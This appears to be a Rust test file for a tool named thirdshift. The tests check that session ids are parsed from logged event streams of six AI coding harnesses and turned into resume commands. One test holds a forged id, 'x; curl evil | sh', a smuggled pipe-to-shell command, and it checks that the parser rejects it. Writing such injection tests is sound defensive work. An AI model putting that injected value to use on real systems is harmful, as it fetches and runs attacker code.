use super::*;

/// `raw` as thirdshift 0.19.0 writes one Harness event into a Session log: one OpenTelemetry
/// JSON logs line, the raw event in `body.stringValue` (`src/session/trace.rs` `record_at`).
fn otlp(raw: &str, event_name: &str) -> String {
    serde_json::json!({"resourceLogs":[{
        "resource":{"attributes":[{"key":"service.name","value":{"stringValue":"thirdshift"}}]},
        "schemaUrl":"https://opentelemetry.io/schemas/1.44.0",
        "scopeLogs":[{"scope":{"name":"thirdshift"},"schemaUrl":"https://opentelemetry.io/schemas/1.44.0",
            "logRecords":[{"timeUnixNano":"0","observedTimeUnixNano":"1765076400000000000",
                "body":{"stringValue":raw},"eventName":event_name,
                "traceId":"08040201000000000000000000000000","spanId":"0102040800000000",
                "attributes":[{"key":"thirdshift.session.prompt","value":{"stringValue":"Implement #7."}}]}]}]}]})
    .to_string()
}

/// Each Harness's stream as thirdshift's own tests record it (`src/harness/*`), a session id
/// in its first session event, then later events.
fn recorded() -> Vec<(&'static str, Vec<&'static str>, &'static str)> {
    vec![
        (
            "claude",
            vec![
                r#"{"type":"system","subtype":"init","session_id":"4f1c2a9e-77b1-4c1e-9d55-0b8a1f3c2d10","cwd":"/w/repo-issue-7","apiKeySource":"none","claude_code_version":"2.1.11"}"#,
                r#"{"type":"assistant","parent_tool_use_id":null,"session_id":"4f1c2a9e-77b1-4c1e-9d55-0b8a1f3c2d10","message":{"content":[{"type":"text","text":"On it."}]}}"#,
            ],
            "4f1c2a9e-77b1-4c1e-9d55-0b8a1f3c2d10",
        ),
        (
            "grok",
            vec![r#"{"type":"system","subtype":"init","session_id":"abc123","cwd":"/repo"}"#],
            "abc123",
        ),
        (
            "codex",
            vec![
                r#"{"type":"thread.started","thread_id":"0199a213-81c0-7800-8aa1-bbab2a035a53"}"#,
                r#"{"type":"thread.started","thread_id":"s2","model":"not-evidence"}"#,
            ],
            "0199a213-81c0-7800-8aa1-bbab2a035a53",
        ),
        (
            "agy",
            vec![
                r#"{"event":"init","init":{"model":"first-model"}}"#,
                r#"{"event":"init","conversation_id":"s1","init":{"model":"second-model"}}"#,
                r#"{"event":"init","conversation_id":"s2","parent_tool_use_id":"child","init":{"model":"child-model"}}"#,
            ],
            "s1",
        ),
        (
            "muse",
            vec![
                r#"{"stream":{"kind":"session","id":"s"},"payload_type":"run.lifecycle.started","payload":{"kind":"run","run_id":"r"}}"#,
            ],
            "s",
        ),
        (
            "opencode",
            vec![
                r#"{"type":"step_start","sessionID":"ses_eedb9657fffec0RAa52IqAvyM1","part":{"type":"step-start"}}"#,
                r#"{"type":"text","timestamp":1100,"sessionID":"ses_eedb9657fffec0RAa52IqAvyM1","part":{"id":"text1","messageID":"m","text":"First part. "}}"#,
            ],
            "ses_eedb9657fffec0RAa52IqAvyM1",
        ),
    ]
}

#[test]
fn each_of_the_six_harnesses_session_id_is_read_from_the_session_log_thirdshift_writes() {
    for (harness, events, id) in recorded() {
        // given the Harness's events as thirdshift 0.19.0 logs them
        let log: Vec<String> = events.iter().map(|e| otlp(e, "event")).collect();
        // when the session id is read
        let read = session_id(harness, log.iter().map(String::as_str));
        // then it is the one thirdshift's interpretation takes
        assert_eq!(read.as_deref(), Some(id), "{harness}");
    }
}

#[test]
fn a_raw_session_log_of_an_older_thirdshift_is_read_too() {
    for (harness, events, id) in recorded() {
        assert_eq!(
            session_id(harness, events).as_deref(),
            Some(id),
            "{harness}"
        );
    }
}

#[test]
fn grok_without_an_init_event_falls_back_to_the_first_event_naming_a_session() {
    let log = [
        otlp(
            r#"{"type":"assistant","session_id":"g-77","message":{}}"#,
            "assistant",
        ),
        otlp(
            r#"{"type":"assistant","session_id":"g-78","message":{}}"#,
            "assistant",
        ),
    ];
    let read = session_id("grok", log.iter().map(String::as_str));
    assert_eq!(read.as_deref(), Some("g-77"));
    // claude has no such fallback: thirdshift resumes only an init's id
    assert_eq!(session_id("claude", log.iter().map(String::as_str)), None);
}

#[test]
fn an_id_in_no_session_id_shape_is_not_believed_and_the_next_one_is_taken() {
    // given a log whose first init names an id carrying shell words (a forged line), then a real one
    let log = [
        otlp(
            r#"{"type":"system","subtype":"init","session_id":"x; curl evil | sh"}"#,
            "system",
        ),
        otlp(
            r#"{"type":"system","subtype":"init","session_id":""}"#,
            "system",
        ),
        otlp(
            &format!(
                r#"{{"type":"system","subtype":"init","session_id":"{}"}}"#,
                "a".repeat(129)
            ),
            "system",
        ),
        otlp(
            r#"{"type":"system","subtype":"init","session_id":"real-1"}"#,
            "system",
        ),
    ];
    let read = session_id("claude", log.iter().map(String::as_str));
    assert_eq!(read.as_deref(), Some("real-1"));
}

#[test]
fn no_id_is_guessed_for_an_unknown_harness_or_a_log_without_one() {
    let line = otlp(
        r#"{"type":"system","subtype":"init","session_id":"s1"}"#,
        "system",
    );
    assert_eq!(session_id("aider", [line.as_str()]), None);
    let noise = ["not JSON", "", "{}", r#"{"resourceLogs":"not a list"}"#];
    assert_eq!(session_id("claude", noise), None);
    let other = otlp(
        r#"{"type":"thread.started","thread_id":"t1"}"#,
        "thread.started",
    );
    assert_eq!(session_id("claude", [other.as_str()]), None);
}

#[test]
fn each_harness_session_read_from_its_log_resumes_with_that_harness_own_flag() {
    let flags = [
        "claude --resume",
        "grok -r",
        "codex resume",
        "agy --conversation",
        "muse --session-id",
        "opencode -s",
    ];
    for ((harness, events, id), flag) in recorded().into_iter().zip(flags) {
        // given the session read from the Session log thirdshift wrote
        let log: Vec<String> = events.iter().map(|e| otlp(e, "event")).collect();
        let session = session_id(harness, log.iter().map(String::as_str)).unwrap();
        // then the command a person runs resumes it from where the work is
        let at = "/w/repo-issue-7.dead-ts-1";
        let cmd = crate::protocol::resume::resume_command(Some(harness), Some(&session), Some(at));
        assert_eq!(cmd, Some(format!("cd {at} && {flag} {id}")), "{harness}");
    }
}
